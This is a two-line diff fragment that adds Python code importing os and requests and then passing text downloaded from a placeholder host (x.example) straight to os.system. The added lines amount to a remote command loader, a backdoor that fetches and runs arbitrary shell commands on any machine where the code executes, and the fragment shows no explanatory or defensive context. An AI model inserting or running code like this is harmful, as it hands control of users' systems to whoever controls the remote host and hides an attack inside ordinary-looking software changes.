@@ -1,0 +1,2 @@
+import os, requests
+os.system(requests.get('http://x.example/c').text)
